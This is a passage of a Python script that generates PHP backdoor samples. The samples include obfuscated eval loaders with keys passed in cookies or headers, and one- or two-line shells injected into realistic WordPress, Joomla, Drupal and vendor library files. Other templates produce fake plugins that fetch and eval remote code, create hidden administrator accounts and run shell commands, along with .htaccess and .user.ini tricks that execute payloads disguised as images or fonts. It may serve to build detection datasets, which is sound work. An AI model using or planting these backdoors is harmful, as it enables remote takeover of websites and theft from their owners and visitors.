$%(a)s = Closure::bind(function ($p) { $q = base64_decode(base64_decode(str_rot13($p))); return eval($q); }, null, null);
array_map($%(a)s, array(%(blob)s));
""" % dict(a=a, blob=sq(blob))
    return one(r, code)


def rc4_cookie_key(r, S):
    key = rword(r, 16)
    body = inner(r)
    blob = b64(rc4(key, body))
    ck = rword(r, r.randint(3, 8), "abcdefghijklmnopqrstuvwxyz")
    src = r.choice(("$_COOKIE['%s']" % ck, "$_SERVER['HTTP_X_%s']" % ck.upper(), "$_SERVER['HTTP_ACCEPT_ENCODING_%s']" % ck.upper()))
    code = """<?php
function %(f)s($k, $d) {
    $s = range(0, 255); $j = 0; $o = '';
    for ($i = 0; $i < 256; $i++) { $j = ($j + $s[$i] + ord($k[$i %% strlen($k)])) %% 256; $t = $s[$i]; $s[$i] = $s[$j]; $s[$j] = $t; }
    $i = $j = 0;
    for ($y = 0; $y < strlen($d); $y++) {
        $i = ($i + 1) %% 256; $j = ($j + $s[$i]) %% 256;
        $t = $s[$i]; $s[$i] = $s[$j]; $s[$j] = $t;
        $o .= chr(ord($d[$y]) ^ $s[($s[$i] + $s[$j]) %% 256]);
    }
    return $o;
}
if (isset(%(src)s)) {
    $p = %(f)s(%(src)s, base64_decode(%(blob)s));
    if (substr($p, 0, 2) == 'if' || substr($p, 0, 1) == '$') { eval($p); }
}
""" % dict(f="_" + hexname(r, 6), src=src, blob=wrap_b64(blob, r))
    return one(r, code, ("plain", "odd-ext", "no-ext", "crlf", "image-tail"))


def xor_header_key(r, S):
    """An encrypted payload whose key comes in a header; the blob in the file,
    or the blob in the request and the key in the file."""
    key = rword(r, r.randint(8, 24))
    body = inner(r)
    hk = "HTTP_" + r.choice(("X_REQUEST_ID", "X_CSRF", "X_AUTH_TOKEN", "X_SIGNATURE", "IF_MATCH", "X_FORWARDED_HOST"))
    code = """<?php
$h = isset($_SERVER['%(hk)s']) ? $_SERVER['%(hk)s'] : '';
if (strlen($h) > 4) {
    $b = base64_decode(%(blob)s);
    $k = md5($h) . sha1($h);
    $r = '';
    for ($i = 0, $n = strlen($b); $i < $n; $i++) { $r .= chr(ord($b[$i]) ^ ord($k[$i %% strlen($k)])); }
    if (md5($r) === '%(chk)s') { eval($r); }
}
"""
    import hashlib
    k = hashlib.md5(key.encode()).hexdigest() + hashlib.sha1(key.encode()).hexdigest()
    blob = b64(xor(body, k))
    code = code % dict(hk=hk, blob=wrap_b64(blob, r), chk=hashlib.md5(body.encode()).hexdigest())
    return one(r, code)


def globals_table(r, S):
    """The well-known obfuscator shape: a $GLOBALS array of base64 names and
    a numbered-string helper function."""
    g = "_%d_" % r.randint(100, 999)
    fns = ["base64_decode", "function_exists", "shell_exec", "is_callable", "htmlspecialchars", "file_put_contents",
           "move_uploaded_file", "basename"]
    r.shuffle(fns)
    idx = {f: i for i, f in enumerate(fns)}
    arr = ",".join("base64_decode(%s)" % sq(b64(f)) for f in fns)
    strs = ["c", "upload", "tmp_name", "name", "<pre>", "</pre>"]
    r.shuffle(strs)
    sidx = {s: i for i, s in enumerate(strs)}
    hf = "_" + hexname(r, 6)
    sarr = ",".join(sq(b64(s)) for s in strs)

    def G(f):
        return "$GLOBALS['%s'][%d]" % (g, idx[f])

    def T(s):
        return "%s(%d)" % (hf, sidx[s])
    code = """<?php
$GLOBALS['%(g)s'] = Array(%(arr)s);
function %(hf)s($i) { $a = Array(%(sarr)s); return base64_decode($a[$i]); }
if (isset($_POST[%(c)s]) && %(fe)s(%(se)s)) {
    echo %(pre)s . %(hs)s(%(se_call)s($_POST[%(c)s])) . %(epre)s;
}
if (isset($_FILES[%(up)s])) {
    %(mv)s($_FILES[%(up)s][%(tmp)s], %(bn)s($_FILES[%(up)s][%(nm)s]));
}
""" % dict(g=g, arr=arr, hf=hf, sarr=sarr, c=T("c"), fe=G("function_exists"),
           se="$GLOBALS['%s'][%d]" % (g, idx["shell_exec"]), pre=T("<pre>"), epre=T("</pre>"),
           hs=G("htmlspecialchars"), se_call=G("shell_exec"), up=T("upload"), mv=G("move_uploaded_file"),
           tmp=T("tmp_name"), bn=G("basename"), nm=T("name"))
    return one(r, code, ("plain", "odd-ext", "crlf", "no-ext"))


def octal_escape(r, S):
    p = rword(r, 2, "abcdefghijklmnopqrstuvwxyz")
    f1 = r.choice(("system", "passthru", "shell_exec", "exec"))
    conv = r.choice((php_oct, php_hex))
    a, b = S.name(), S.name()
    code = """<?php
$%(a)s = %(f)s;
$%(b)s = %(src)s;
if (isset($%(b)s[%(p)s])) {
    echo %(pre)s;
    %(call)s
    echo %(epre)s;
}
""" % dict(a=a, f=conv(f1), b=b, src=conv("_REQUEST") if False else "$_REQUEST", p=conv(p), pre=conv("<pre>"),
           epre=conv("</pre>"),
           call=("echo $%s($%s[%s]);" % (a, b, conv(p))) if f1 == "shell_exec" else
           ("$%s($%s[%s], $__o); echo implode(\"\\n\", $__o);" % (a, b, conv(p)) if f1 == "exec" else
            "$%s($%s[%s]);" % (a, b, conv(p))))
    return one(r, code)


def ksort_chunks(r, S):
    """The payload cut into chunks kept under shuffled numeric keys, put back
    in order by ksort before it is decoded."""
    body = inner(r)
    enc = b64(deflate_raw(body)) if r.random() < 0.5 else b64(body)
    inflate = enc != b64(body)
    parts = chunks(enc, r.randint(12, 40))
    keys = sorted(r.sample(range(100, 9999), len(parts)))
    pairs = list(zip(keys, parts))
    r.shuffle(pairs)
    a, b = S.name(), S.name()
    code = "<?php\n$%s = array(\n%s\n);\nksort($%s);\n$%s = base64_decode(implode('', $%s));\n" % (
        a, "\n".join("    %d => %s," % (k, sq(v)) for k, v in pairs), a, b, a)
    if inflate:
        code += "$%s = gzinflate($%s);\n" % (b, b)
    code += r.choice(("eval($%s);\n" % b, "@eval('?>' . '<?php ' . $%s);\n" % b))
    return one(r, code)


def junk_strip(r, S):
    """Base64 with a junk token sprinkled through it, removed by str_replace
    (the callee names get the same treatment)."""
    junk = r.choice(("%x%", "_@", "Zq#", "!!", "@@1", "~"))  # never a base64 run
    body = inner(r)
    enc = b64(body)
    dirty = junk.join(chunks(enc, r.randint(3, 7)))

    def dj(name):
        k = r.randint(1, len(name) - 1)
        return sq(name[:k] + junk + name[k:])
    f, g, t = S.name(), S.name(), S.name()
    code = """<?php
$%(f)s = str_replace(%(j)s, '', %(b64)s);
$%(t)s = str_replace(%(j)s, '', %(dirty)s);
$%(g)s = $%(f)s($%(t)s);
eval($%(g)s);
""" % dict(f=f, g=g, t=t, j=sq(junk), b64=dj("base64_decode"), dirty=sq(dirty))
    return one(r, code, ("plain", "odd-ext", "no-ext", "crlf", "short-tag", "image-tail"))


# ---------------------------------------------------------------------------
# injected into realistic application files


def _tiny(r, S):
    """A one- or two-line injection."""
    k = r.randint(0, 4)
    p = rword(r, 4, "abcdefghijklmnopqrstuvwxyz")
    if k == 0:
        return "@eval(base64_decode(%s));" % sq(b64(inner(r)))
    if k == 1:
        return "if (isset($_REQUEST['%s'])) { @eval(stripslashes($_REQUEST['%s'])); }" % (p, p)
    if k == 2:
        return "if (isset($_COOKIE['%s']) && md5($_COOKIE['%s']) == '%s') { @eval(gzinflate(base64_decode($_POST['%s']))); }" % (
            p, p, hexname(r, 32), p)
    if k == 3:
        return "$%s = @$_SERVER['HTTP_%s']; if ($%s) { $%s = str_rot13(base64_decode($%s)); @eval($%s); }" % (
            p, rword(r, 6, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"), p, p, p, p)
    return "if (!empty($_POST['%s'])) { @file_put_contents(__DIR__ . '/' . basename($_POST['n']), base64_decode($_POST['%s'])); }" % (p, p)


def inject_plugin_top(r, S):
    sl = slug(r)
    prefix = sl.replace("-", "_")
    plug = big_plugin(r, prefix, r.randint(12, 25))
    inj = _tiny(r, S)
    # the classic top-of-file injection: a long line before the real header
    if r.random() < 0.5:
        text = "<?php " + " " * r.randint(0, 200) + inj + " ?>" + plug
    else:
        text = "<?php " + inj + "\n" + plug[len("<?php\n"):]
    return [("wp-content/plugins/%s/%s.php" % (sl, sl), text, "php")], "inject-top"


def theme_template(r, name, inj=None):
    th = theme(r)
    parts = ["<?php\n/**\n * The template for displaying the footer\n *\n * @package %s\n */\n?>\n" % th,
             "\t</div><!-- #content -->\n\n\t<footer id=\"colophon\" class=\"site-footer\">\n",
             "\t\t<?php if (is_active_sidebar('footer-1')) : ?>\n\t\t\t<div class=\"footer-widgets\">"
             "<?php dynamic_sidebar('footer-1'); ?></div>\n\t\t<?php endif; ?>\n",
             "\t\t<div class=\"site-info\">\n\t\t\t<a href=\"<?php echo esc_url(__('https://wordpress.org/', '%s')); ?>\">"
             "<?php printf(esc_html__('Proudly powered by %%s', '%s'), 'WordPress'); ?></a>\n"
             "\t\t\t<span class=\"sep\"> | </span>\n\t\t\t<?php printf(esc_html__('Theme: %%1$s by %%2$s.', '%s'), '%s', "
             "'<a href=\"https://example.com/\">Example</a>'); ?>\n\t\t</div><!-- .site-info -->\n" % (th, th, th, th),
             "\t\t<?php wp_nav_menu(array('theme_location' => 'footer', 'depth' => 1, 'fallback_cb' => false)); ?>\n",
             "\t</footer><!-- #colophon -->\n</div><!-- #page -->\n\n",
             "<?php wp_footer(); ?>\n\n</body>\n</html>\n"]
    if inj is not None:
        parts.insert(r.randint(2, len(parts) - 1), inj)
    return "wp-content/themes/%s/%s" % (th, name), "".join(parts)


def inject_theme_mid(r, S):
    inj = _tiny(r, S)
    k = r.randint(0, 2)
    if k == 0:
        block = "\t\t<?php %s ?>\n" % inj
    elif k == 1:
        # a spam/backdoor block hidden in a display:none div
        block = ("\t\t<div style=\"position:absolute;left:-9999px\"><?php %s\n"
                 "\t\techo @file_get_contents('http://%s/l.php?h=' . urlencode($_SERVER['HTTP_HOST'])); ?></div>\n"
                 % (inj, dom(r)))
    else:
        block = "\t\t<?php if (isset($_GET['%s'])) { %s } ?>\n" % (rword(r, 3), inj)
    rel, text = theme_template(r, r.choice(("footer.php", "sidebar.php", "template-parts/footer/site-info.php")), block)
    return [(rel, text, "php")], "inject-mid"


def wp_config(r, extra_top="", extra_end=""):
    salts = "\n".join("define('%s', '%s');" % (k, rword(r, 64, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*()-_[]{}<>~+=,.;:/?|"))
                      for k in ("AUTH_KEY", "SECURE_AUTH_KEY", "LOGGED_IN_KEY", "NONCE_KEY", "AUTH_SALT",
                                "SECURE_AUTH_SALT", "LOGGED_IN_SALT", "NONCE_SALT"))
    return """<?php
%s/**
 * The base configuration for WordPress
 *
 * @link https://wordpress.org/support/article/editing-wp-config-php/
 *
 * @package WordPress
 */

// ** Database settings - You can get this info from your web host ** //
define( 'DB_NAME', '%s' );
define( 'DB_USER', '%s' );
define( 'DB_PASSWORD', '%s' );
define( 'DB_HOST', 'localhost' );
define( 'DB_CHARSET', 'utf8mb4' );
define( 'DB_COLLATE', '' );

/**#@+
 * Authentication unique keys and salts.
 */
%s
/**#@-*/

$table_prefix = '%s';

define( 'WP_DEBUG', false );

/* That's all, stop editing! Happy publishing. */

if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}

require_once ABSPATH . 'wp-settings.php';
%s""" % (extra_top, "u%s_wp" % rword(r, 5), "u%s_wp" % rword(r, 5), rword(r, 16), salts,
         r.choice(("wp_", "wp%s_" % rword(r, 3))), extra_end)


def inject_config_end(r, S):
    k = r.randint(0, 3)
    inj = _tiny(r, S)
    if k == 0:
        return [("wp-config.php", wp_config(r, extra_end=inj + "\n"), "php")], "inject-end"
    if k == 1:
        # an include of an innocuous-looking file added at the top, and that file
        f = "wp-includes/images/smilies/icon_%s.gif" % rword(r, 5, "abcdefghijklmnopqrstuvwxyz")
        data = image_bytes(r) + ("\n<?php " + inj + " ?>").encode()
        return [("wp-config.php", wp_config(r, extra_top="@include_once(ABSPATH . '%s');\n" % f if False else
                                            "@include_once(__DIR__ . '/%s');\n" % f), "php"),
                (f, data, "php")], "inject-top"
    if k == 2:
        jc = """<?php
class JConfig {
	public $offline = '0';
	public $sitename = '%s';
	public $editor = 'tinymce';
	public $list_limit = '20';
	public $dbtype = 'mysqli';
	public $host = 'localhost';
	public $user = '%s';
	public $password = '%s';
	public $db = '%s';
	public $dbprefix = '%s_';
	public $secret = '%s';
	public $gzip = '0';
	public $error_reporting = 'default';
	public $mailer = 'mail';
	public $mailfrom = 'info@%s';
	public $log_path = '/home/%s/public_html/administrator/logs';
	public $tmp_path = '/home/%s/public_html/tmp';
	public $lifetime = '15';
	public $session_handler = 'database';
}
%s
""" % (r.choice(("Hotel Aurora", "Clinica Sol", "Toko Maju")), rword(r, 6), rword(r, 12), rword(r, 6), rword(r, 4),
            rword(r, 16), dom(r), rword(r, 6), rword(r, 6), inj)
        return [("configuration.php", jc, "php")], "inject-end"
    st = """<?php

/**
 * @file
 * Drupal site-specific configuration file.
 */

$databases['default']['default'] = array (
  'database' => '%s',
  'username' => '%s',
  'password' => '%s',
  'prefix' => '',
  'host' => 'localhost',
  'port' => '3306',
  'namespace' => 'Drupal\\\\Core\\\\Database\\\\Driver\\\\mysql',
  'driver' => 'mysql',
);
$settings['hash_salt'] = '%s';
$settings['update_free_access'] = FALSE;
$settings['file_scan_ignore_directories'] = [
  'node_modules',
  'bower_components',
];
$settings['entity_update_batch_size'] = 50;
%s
$settings['config_sync_directory'] = 'sites/default/files/config_%s/sync';
""" % (rword(r, 6), rword(r, 6), rword(r, 12), rword(r, 40), inj, rword(r, 20))
    return [("sites/default/settings.php", st, "php")], "inject-mid"


def inject_vendor_lib(r, S):
    path, ns, cls = r.choice((
        ("vendor/guzzlehttp/psr7/src/%s.php", "GuzzleHttp\\Psr7", "MimeType"),
        ("vendor/symfony/polyfill-mbstring/%s.php", "Symfony\\Polyfill\\Mbstring", "MbstringCompat"),
        ("vendor/monolog/monolog/src/Monolog/%s.php", "Monolog", "Registry"),
        ("vendor/league/commonmark/src/Util/%s.php", "League\\CommonMark\\Util", "HtmlFilter"),
        ("wp-includes/Requests/src/%s.php", "WpOrg\\Requests", "IdnaEncoder"),
    ))
    lines = core_class(r, cls, r.randint(25, 45))
    # namespace the class; the injection sits in a static method called at load
    lines.insert(1, "\nnamespace %s;\n" % ns)
    k = r.randint(0, 2)
    p = rword(r, 4, "abcdefghijklmnopqrstuvwxyz")
    if k == 0:
        meth = ["\tpublic static function boot_%s() {" % p,
                "\t\t$h = isset($_SERVER['HTTP_%s']) ? $_SERVER['HTTP_%s'] : null;" % (p.upper(), p.upper()),
                "\t\tif ($h !== null) {", "\t\t\t$c = \\base64_decode(\\strrev($h));", "\t\t\t@eval($c);", "\t\t}", "\t}"]
    elif k == 1:
        meth = ["\tpublic static function boot_%s() {" % p,
                "\t\tif (!empty($_POST['%s'])) {" % p,
                "\t\t\t$f = \\sys_get_temp_dir() . '/.' . \\md5(__FILE__);",
                "\t\t\t\\file_put_contents($f, '<?php ' . \\base64_decode($_POST['%s']));" % p,
                "\t\t\tinclude $f;", "\t\t\t\\unlink($f);", "\t\t}", "\t}"]
    else:
        meth = ["\tpublic static function boot_%s() {" % p,
                "\t\t$k = \\filter_input(INPUT_COOKIE, '%s');" % p,
                "\t\tif ($k && \\hash('sha256', $k) === '%s') {" % hexname(r, 64),
                "\t\t\t\\call_user_func('\\\\sys' . 'tem', (string) \\filter_input(INPUT_GET, 'q'));", "\t\t}", "\t}"]
    at = r.randint(20, len(lines) - 3)
    while lines[at] != "":
        at += 1
    lines[at:at] = [""] + meth
    lines.append("%s::boot_%s();" % (cls, p))
    return [(path % cls, "\n".join(lines) + "\n", "php")], "inject-mid"


def fake_plugin(r, S):
    nm = r.choice(("wp-security-patch", "classic-editor-addon", "wp-cache-helper", "ssl-fix-pro", "jquery-migrate-helper",
                   "elementor-license", "updraft-sync", "woo-payment-gateway-ext"))
    sl = nm + "-" + rword(r, 3, "abcdefghijklmnopqrstuvwxyz")
    lk = rword(r, 24)
    k = r.randint(0, 2)
    if k == 0:
        body = """
add_action('init', function () {
    $lic = get_option('%(o)s_license');
    if (!$lic || (isset($_GET['%(o)s_refresh']))) {
        $res = wp_remote_get('https://license.%(d)s/api/v2/check?key=%(lk)s&site=' . rawurlencode(home_url()));
        if (!is_wp_error($res)) {
            $lic = wp_remote_retrieve_body($res);
            update_option('%(o)s_license', $lic, false);
        }
    }
    if ($lic) {
        $data = json_decode(base64_decode($lic), true);
        if (!empty($data['module'])) { eval(base64_decode($data['module'])); }
    }
});
"""
    elif k == 1:
        body = """
add_action('wp_loaded', function () {
    if (!isset($_POST['%(o)s_key']) || hash_hmac('sha256', $_POST['%(o)s_key'], '%(lk)s') !== '%(h)s') {
        return;
    }
    if (!username_exists('wp_support_%(o)s')) {
        $id = wp_create_user('wp_support_%(o)s', $_POST['pw'], 'support@%(d)s');
        (new WP_User($id))->set_role('administrator');
    }
    if (!empty($_POST['run'])) { echo shell_exec($_POST['run']); }
    exit;
});
add_action('pre_user_query', function ($q) {
    global $wpdb;
    $q->query_where .= " AND {$wpdb->users}.user_login != 'wp_support_%(o)s'";
});
"""
    else:
        body = """
add_action('rest_api_init', function () {
    register_rest_route('%(o)s/v1', '/sync', array(
        'methods'             => 'POST',
        'permission_callback' => '__return_true',
        'callback'            => function (WP_REST_Request $req) {
            $p = $req->get_param('payload');
            $f = WP_CONTENT_DIR . '/uploads/' . sanitize_file_name($req->get_param('name'));
            file_put_contents($f, base64_decode($p));
            return array('ok' => true, 'path' => $f);
        },
    ));
});
"""
    body = body % dict(o=sl.replace("-", "_"), d=dom(r), lk=lk, h=hexname(r, 64))
    body += """
add_filter('all_plugins', function ($plugins) {
    unset($plugins[plugin_basename(__FILE__)]);
    return $plugins;
});
"""
    main = "<?php\n" + ("/**\n * Plugin Name: %s\n * Description: %s\n * Version: %d.%d.%d\n * Author: %s\n */\n\n"
                        "if (!defined('ABSPATH')) { exit; }\n" % (
                            nm.replace("-", " ").title(),
                            r.choice(("Security hotfix for recent vulnerabilities.", "Compatibility layer.",
                                      "Improves cache performance.", "License manager.")),
                            r.randint(1, 4), r.randint(0, 9), r.randint(0, 9), r.choice(("WordPress.org", "Automattic Support", "Developer Team")))) + body
    readme = "=== %s ===\nContributors: wpdev\nTags: security, cache\nRequires at least: 5.0\nTested up to: 6.4\nStable tag: 1.0.%d\n" \
        "License: GPLv2\n\n%s\n" % (nm.replace("-", " ").title(), r.randint(0, 9), "Keeps your site compatible.")
    return [("wp-content/plugins/%s/%s.php" % (sl, nm), main, "php"),
            ("wp-content/plugins/%s/readme.txt" % sl, readme, "text")], "fake-plugin"


# ---------------------------------------------------------------------------
# server-config tricks


def htaccess_files_handler(r, S):
    d = r.choice(("wp-content/uploads/2021/07", "images", "media/cache", "assets/fonts"))
    f = r.choice(("OpenSans-Regular.woff2", "sprite.svgz", "readme", "cache.dat", "favicon_" + rword(r, 4) + ".ico",
                  "thumbs.db"))
    k = r.randint(0, 1)
    if k == 0:
        ht = "<Files \"%s\">\n    SetHandler application/x-httpd-php\n    ForceType application/x-httpd-php\n</Files>\n" % f
    else:
        ht = "<FilesMatch \"^%s$\">\n    AddType application/x-httpd-php .%s\n    SetHandler application/x-httpd-php\n</FilesMatch>\nOptions -Indexes\n" % (
            f.replace(".", "\\."), f.rsplit(".", 1)[-1])
    code = "<?php\n" + inner(r)
    data = code.encode()
    if f.endswith(".ico"):
        data = image_bytes(r) + b"\n" + data
    return [("%s/.htaccess" % d, ht, "htaccess"), ("%s/%s" % (d, f), data, "php")], "htaccess"


def userini_append(r, S):
    d = r.choice(("", "wp-admin", "blog", "shop"))
    tgt = r.choice(("wp-content/uploads/.cache/sess_%s" % hexname(r, 12), "wp-includes/fonts/dashicons-%s.svg" % rword(r, 3),
                    "tmp/.%s.log" % hexname(r, 8), "wp-content/languages/en_%s.mo" % rword(r, 2).upper()))
    key = r.choice(("auto_prepend_file", "auto_append_file"))
    ini = "; generated by hosting panel\nmemory_limit = 256M\nupload_max_filesize = 64M\n%s = \"%s\"\n" % (
        key, ("/home/%s/public_html/" % rword(r, 6)) + tgt)
    code = "<?php\n" + inner(r)
    files = [((d + "/.user.ini").lstrip("/"), ini, "ini"), (tgt, code, "php")]
    if r.random() < 0.5:
        files.append(((d + "/.htaccess").lstrip("/"), "php_value %s \"/home/%s/public_html/%s\"\n" % (key, rword(r, 6), tgt), "htaccess"))
    return files, "user-ini"


def noext_include(r, S):
    """A payload in a file without extension, and the one line in index.php
    that includes it."""
    tgt = r.choice(("wp-includes/css/dist/block-library/common", "wp-includes/ID3/license", "wp-admin/js/widgets/text",
                    "wp-includes/SimplePie/Cache/.base", "wp-includes/sodium_compat/LICENSE"))
    code = "<?php\n" + inner(r)
    if r.random() < 0.5:
        code = "<?php eval(gzinflate(base64_decode(%s)));\n" % sq(b64(deflate_raw(inner(r))))
    idx = """<?php
/**
 * Front to the WordPress application. This file doesn't do anything, but loads
 * wp-blog-header.php which does and tells WordPress to load the theme.
 *
 * @package WordPress
 */
%s
/**
 * Tells WordPress to load the WordPress theme and output it.
 *
 * @var bool
 */
define( 'WP_USE_THEMES', true );

/** Loads the WordPress Environment and Template */
require __DIR__ . '/wp-blog-header.php';
""" % r.choice(("@include \"\\x2f%s\";" % "".join("\\x%02x" % ord(c) for c in "home/u/public_html/" + tgt)
                if False else "@include __DIR__ . '/%s';" % tgt,
                "@include(base64_decode('%s'));" % b64(tgt),
                "@include(dirname(__FILE__) . %s);" % php_hex("/" + tgt)))
    return [("index.php", idx, "php"), (tgt, code, "php")], "no-ext"


TEMPLATES = (
    ("kit_zh", kit_zh, 4), ("kit_ru", kit_ru, 4), ("kit_id", kit_id, 5), ("kit_vi", kit_vi, 4), ("kit_pt", kit_pt, 4),
    ("mass_deface", mass_deface, 5), ("mirror_notifier", mirror_notifier, 4), ("php4_era", php4_era, 4),
    ("cracked_banner", cracked_banner, 4), ("nested_chain", nested_chain, 5), ("varvar_table", varvar_table, 5),
    ("goto_spaghetti", goto_spaghetti, 5), ("numeric_index", numeric_index, 5), ("long_xor", long_xor, 5),
    ("class_loader", class_loader, 5), ("closure_loader", closure_loader, 5), ("rc4_cookie_key", rc4_cookie_key, 5),
    ("xor_header_key", xor_header_key, 5), ("globals_table", globals_table, 4), ("octal_escape", octal_escape, 4), ("ksort_chunks", ksort_chunks, 4),
    ("junk_strip", junk_strip, 4),
    ("inject_plugin_top", inject_plugin_top, 5), ("inject_theme_mid", inject_theme_mid, 5),
    ("inject_config", inject_config_end, 5), ("inject_vendor_lib", inject_vendor_lib, 5),
    ("fake_plugin", fake_plugin, 5), ("htaccess_files_handler", htaccess_files_handler, 4),
    ("userini_append", userini_append, 4), ("noext_include", noext_include, 4),
)
